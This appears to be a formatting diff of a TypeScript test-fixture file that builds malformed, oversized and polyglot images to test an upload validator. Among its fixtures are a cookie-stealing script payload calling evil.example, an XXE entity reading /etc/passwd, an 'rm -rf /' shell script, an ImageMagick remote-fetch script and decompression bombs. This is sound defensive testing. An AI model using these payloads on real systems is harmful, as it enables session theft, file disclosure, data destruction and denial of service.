@@ -5,7 +5,9 @@ import { drawPicture, pictureAs, withChunk, withComment } from "./sample-picture
 
 type Make = () => Buffer | Promise<Buffer>;
 
-/** A payload that an attacker might append to a picture; no stored picture may contain it. */
+/**
+ * A payload that an attacker might append to a picture; no stored picture may contain it.
+ */
 export const payload = "<script>fetch('https://evil.example/'+document.cookie)</script>";
 
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/>${payload}</svg>`;
@@ -24,7 +26,11 @@ export function noise(length: number, seed = 1): Buffer {
 
 const noiseAfter = (signature: Buffer) => Buffer.concat([signature, noise(5000)]);
 const jpegSignature = Buffer.from("ffd8ffe0", "hex");
-const webpSignature = Buffer.concat([Buffer.from("RIFF"), Buffer.from([0x90, 0x13, 0, 0]), Buffer.from("WEBPVP8 ")]);
+const webpSignature = Buffer.concat([
+  Buffer.from("RIFF"),
+  Buffer.from([0x90, 0x13, 0, 0]),
+  Buffer.from("WEBPVP8 "),
+]);
 const half = (file: Buffer) => file.subarray(0, file.length / 2);
 
 /** A copy with one byte changed. */
@@ -53,16 +59,29 @@ function bmp(): Buffer {
 /** Files that are not a complete picture in a supported format. */
 export const invalidPictures: [string, Make][] = [
   ["an SVG", () => Buffer.from(svg)],
-  ["an SVG after an XML declaration", () => Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg}`)],
+  [
+    "an SVG after an XML declaration",
+    () =>
+      Buffer.from(`<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg}`),
+  ],
   ["an HTML page", () => Buffer.from(`<!doctype html>${payload}`)],
   ["a GIF", () => drawPicture(64, 40).gif().toBuffer()],
   ["a TIFF", () => drawPicture(64, 40).tiff().toBuffer()],
   ["an AVIF", () => drawPicture(64, 40).avif({ effort: 0 }).toBuffer()],
   ["a BMP", bmp],
-  ["a PDF", () => Buffer.from("%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")],
+  [
+    "a PDF",
+    () => Buffer.from("%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"),
+  ],
   ["a ZIP", () => Buffer.concat([Buffer.from("PK\x05\x06"), Buffer.alloc(18)])],
   ["a script", () => Buffer.from("#!/bin/sh\nrm -rf /\n")],
-  ["an ImageMagick vector script", () => Buffer.from("push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n")],
+  [
+    "an ImageMagick vector script",
+    () =>
+      Buffer.from(
+        "push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n",
+      ),
+  ],
   ["an empty file", () => Buffer.alloc(0)],
   ["one byte", () => Buffer.from([0xff])],
   ["noise", () => noise(5000)],
@@ -78,13 +97,22 @@ export const invalidPictures: [string, Make][] = [
   ["half a PNG", async () => half(await small("png"))],
   ["half a WebP", async () => half(await small("webp"))],
   ["a PNG whose header has a wrong checksum", async () => corrupted(await small("png"), 30)],
-  ["a PNG whose pixels have a wrong checksum", async () => corrupted(await small("png"), (await small("png")).length - 14)],
+  [
+    "a PNG whose pixels have a wrong checksum",
+    async () => corrupted(await small("png"), (await small("png")).length - 14),
+  ],
   ["a PNG of width zero", () => pngOf({ width: 0, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(6) })],
-  ["a PNG with fewer rows than its header claims", () => pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(25) })],
+  [
+    "a PNG with fewer rows than its header claims",
+    () => pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(25) }),
+  ],
   [
     "a PNG without pixels",
     () =>
-      Buffer.concat([pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(0) }).subarray(0, 33), pngChunk("IEND", Buffer.alloc(0))]),
+      Buffer.concat([
+        pngOf({ width: 8, height: 6, depth: 8, colours: 2, rows: Buffer.alloc(0) }).subarray(0, 33),
+        pngChunk("IEND", Buffer.alloc(0)),
+      ]),
   ],
 ];
 
@@ -93,7 +121,9 @@ const bitsOf = (width: number, height: number) =>
 
 /** A JPEG whose header claims a wrong size. */
 async function jpegClaiming(width: number, height: number, { isProgressive = false } = {}): Promise<Buffer> {
-  const file = isProgressive ? await drawPicture(64, 40).jpeg({ progressive: true }).toBuffer() : Buffer.from(await small("jpeg"));
+  const file = isProgressive
+    ? await drawPicture(64, 40).jpeg({ progressive: true }).toBuffer()
+    : Buffer.from(await small("jpeg"));
   const frame = file.indexOf(Buffer.from([0xff, isProgressive ? 0xc2 : 0xc0]));
   file.writeUInt16BE(height, frame + 5);
   file.writeUInt16BE(width, frame + 7);
@@ -113,7 +143,10 @@ async function webpClaiming(side: number): Promise<Buffer> {
 export const oversizedPictures: [string, Make][] = [
   ["a PNG of 64 megapixels in 8 KB", () => bitsOf(8000, 8000)],
   ["a PNG of slightly more than 50 megapixels", () => bitsOf(10_000, 5001)],
-  ["a PNG of 46340 by 46340 pixels without pixel data", () => pngOf({ width: 46_340, height: 46_340, depth: 8, colours: 2, rows: Buffer.alloc(0) })],
+  [
+    "a PNG of 46340 by 46340 pixels without pixel data",
+    () => pngOf({ width: 46_340, height: 46_340, depth: 8, colours: 2, rows: Buffer.alloc(0) }),
+  ],
   ["a JPEG that claims 65000 by 65000 pixels", () => jpegClaiming(65_000, 65_000)],
   ["a WebP that claims 16383 by 16383 pixels", () => webpClaiming(16_383)],
 ];
@@ -121,15 +154,22 @@ export const oversizedPictures: [string, Make][] = [
 /** A picture with longer lines than any JPEG. */
 export const longLines = () => bitsOf(65_536, 10);
 
-/** Pictures of 49 megapixels, by their headers, that would be held in memory as a whole, or nearly so. */
+/**
+ * Pictures of 49 megapixels, by their headers, that would be held in memory as a whole,
+ * or nearly so.
+ */
 export const costlyPictures: [string, Make][] = [
   [
     "an interlaced PNG of 16 bits per value",
-    () => pngOf({ width: 7000, height: 7000, depth: 16, colours: 2, isInterlaced: true, rows: Buffer.alloc(0) }),
+    () =>
+      pngOf({ width: 7000, height: 7000, depth: 16, colours: 2, isInterlaced: true, rows: Buffer.alloc(0) }),
   ],
   ["a progressive JPEG", () => jpegClaiming(7000, 7000, { isProgressive: true })],
   ["a WebP", () => webpClaiming(7000)],
-  ["a PNG of 62500 pixels in each line", () => pngOf({ width: 62_500, height: 784, depth: 16, colours: 2, rows: Buffer.alloc(0) })],
+  [
+    "a PNG of 62500 pixels in each line",
+    () => pngOf({ width: 62_500, height: 784, depth: 16, colours: 2, rows: Buffer.alloc(0) }),
+  ],
 ];
 
 /** A picture of nine megapixels in a small file. */
@@ -141,10 +181,16 @@ export const largestPicture = () => bitsOf(10_000, 5000);
 /** Valid pictures with other content in the same file, which must not be kept. */
 export const polyglots: [string, Make][] = [
   ["a JPEG with a page appended", async () => Buffer.concat([await small("jpeg"), Buffer.from(payload)])],
-  ["a JPEG with a ZIP appended", async () => Buffer.concat([await small("jpeg"), Buffer.from(`PK\x03\x04${payload}`), noise(500)])],
+  [
+    "a JPEG with a ZIP appended",
+    async () => Buffer.concat([await small("jpeg"), Buffer.from(`PK\x03\x04${payload}`), noise(500)]),
+  ],
   ["a JPEG with a script in a comment", async () => withComment(await small("jpeg"), payload)],
   ["a PNG with a script appended", async () => Buffer.concat([await small("png"), Buffer.from(payload)])],
-  ["a PNG with a script in a text chunk", async () => withChunk(await small("png"), "tEXt", `Comment\0${payload}`)],
+  [
+    "a PNG with a script in a text chunk",
+    async () => withChunk(await small("png"), "tEXt", `Comment\0${payload}`),
+  ],
   ["a PNG with a script in a custom chunk", async () => withChunk(await small("png"), "scRt", payload)],
   ["a WebP with a script appended", async () => Buffer.concat([await small("webp"), Buffer.from(payload)])],
 ];
